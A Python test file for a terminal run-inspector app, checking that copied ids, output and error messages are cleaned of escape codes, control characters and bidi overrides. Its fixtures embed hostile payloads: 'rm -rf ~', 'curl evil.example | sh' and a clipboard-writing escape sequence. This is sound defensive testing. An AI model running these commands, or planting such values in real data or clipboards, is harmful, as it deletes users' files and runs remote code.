"""What leaves the TUI for the clipboard or the screen as a message is cleaned first.

A uuid, an error or an output comes from the API. Copied raw, a newline or an escape code in
it lands in the clipboard, ready to run when pasted into a shell; shown raw in a message, it
drives the terminal. `c`/`C` copy a one-line id (and say when it had to change), `y` and the
why view copy multi-line text without control characters, and every message, notification
and header problem passes through one cleaning path, whatever raised it.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from run_inspector.source import FileSource, RunSource
from run_inspector.ui.app import make_app

from .helpers import execution, node, run_of
from .ui_helpers import go_to, notices, ready, static_text

SIZE = (120, 36)
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""Control characters (a newline aside), bidi overrides and lone surrogates."""
EVIL_NODE = "n-evil\x1b]0;PWNED\x07\n rm -rf ~ \x9b2J\u202e"
EVIL_RUN = "run-evil\r\ncurl evil.example | sh\x1b[2J"


@pytest.fixture(autouse=True)
def no_animations(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("textual.constants.TEXTUAL_ANIMATIONS", "none")


def evil_source() -> FileSource:
    """A run whose ids and output carry line breaks, escape codes, C1 controls and bidi overrides."""
    output = {"note": "eight\x9b2Jbit \u202eexe.txt \x1b]52;c;cm0gLXJmIH4=\x07 done"}
    data = run_of(
        [node("start", "start", [EVIL_NODE]), node(EVIL_NODE, children=["end"]), node("end", "end")],
        [execution("start"), execution(EVIL_NODE), execution("end")],
        uuid=EVIL_RUN,
    )
    data["runContext"] = {EVIL_NODE: output}
    return FileSource(json.dumps(data).encode(), "evil.json")


async def test_c_and_shift_c_copy_one_clean_line_and_say_the_id_was_changed() -> None:
    app = make_app(evil_source())
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await ready(pilot, tries=300)
        await go_to(pilot, f"n:{EVIL_NODE}")
        await pilot.pause()
        await pilot.press("c")
        copied = app.clipboard
        assert copied.startswith("n-evil") and "rm -rf ~" in copied
        assert "\n" not in copied and not UNSAFE.search(copied), repr(copied)
        assert "PWNED" not in copied
        assert "changed" in notices(app)[-1]
        await pilot.press("C")
        copied = app.clipboard
        assert copied.startswith("run-evil") and "curl evil.example | sh" in copied
        assert "\n" not in copied and "\r" not in copied and not UNSAFE.search(copied), repr(copied)
        assert "changed" in notices(app)[-1]
        for text in notices(app):
            assert not UNSAFE.search(text), repr(text)


async def test_a_plain_id_is_copied_as_it_is(failed_source: FileSource) -> None:
    app = make_app(failed_source)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await ready(pilot, tries=300)
        await pilot.press("c")
        assert app.clipboard == "n-sync"
        assert notices(app)[-1] == "Copied node uuid n-sync"


async def test_y_and_the_why_view_copy_text_without_control_characters() -> None:
    app = make_app(evil_source())
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await ready(pilot, tries=300)
        await go_to(pilot, f"n:{EVIL_NODE}")
        await pilot.press("4", "y")  # the Output pane: its JSON, C1 and bidi characters in a string
        copied = app.clipboard
        assert "eight" in copied and "bit" in copied and "done" in copied
        assert not UNSAFE.search(copied), repr(copied)
        await pilot.press("1", "y")  # no error: the output again, by the other path
        assert not UNSAFE.search(app.clipboard), repr(app.clipboard)
        await pilot.press("w", "y")
        assert "Why" in app.clipboard
        assert not UNSAFE.search(app.clipboard), repr(app.clipboard)


async def test_every_copy_is_cleaned_even_a_selection() -> None:
    """The clipboard's one door: whatever copies (a text selection too) goes through `clean`."""
    app = make_app(evil_source())
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot, tries=300)
        app.copy_to_clipboard("line one\nline two \x1b]0;PWNED\x07\x9b2J\u202e end")
        assert app.clipboard.startswith("line one\nline two ")
        assert not UNSAFE.search(app.clipboard.replace("\n", "")) and "PWNED" not in app.clipboard


# -- messages ------------------------------------------------------------------------------------


class ExplodingSource(RunSource):
    """A run whose fetch dies at once with an error no fetch error covers, hostile (and long)."""

    live = True
    root_uuid = "run-1"
    description = "exploding"

    async def fetch_bytes(self, run_uuid: str) -> bytes:
        raise RuntimeError("boom \x1b]0;PWNED-TITLE\x07\x1b[2J\nsecond line\x9b31m" + "x" * 200_000)


async def test_a_crashing_feed_is_reported_cleaned_and_cut() -> None:
    app = make_app(ExplodingSource())
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        for _ in range(300):
            if app.header.problem is not None:
                break
            await pilot.pause(0.01)
        await pilot.pause()
        message = static_text(app, "#message")
        assert "Could not load" in message and "boom" in message and "second line" in message
        assert len(message) < 5_000  # 200,000 characters of error, cut
        texts: list[Any] = [message, static_text(app, "#header"), app.header.problem, *notices(app)]
        for text in texts:
            assert "PWNED" not in text, repr(text[:300])
            assert not UNSAFE.search(text.replace("\n", "")), repr(text[:300])
        assert app.is_running


async def test_notify_cleans_whatever_it_is_given(failed_source: FileSource) -> None:
    app = make_app(failed_source)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        await ready(pilot, tries=300)
        app.notify("a \x1b[2Jb\nc\x07" + "y" * 100_000, title="t\x1b]0;PWNED\x07")
        await pilot.pause()
        shown = list(app._notifications)[-1]
        assert not UNSAFE.search(shown.message.replace("\n", "")) and "PWNED" not in shown.title
        assert shown.message.startswith("a b\nc") and len(shown.message) < 5_000
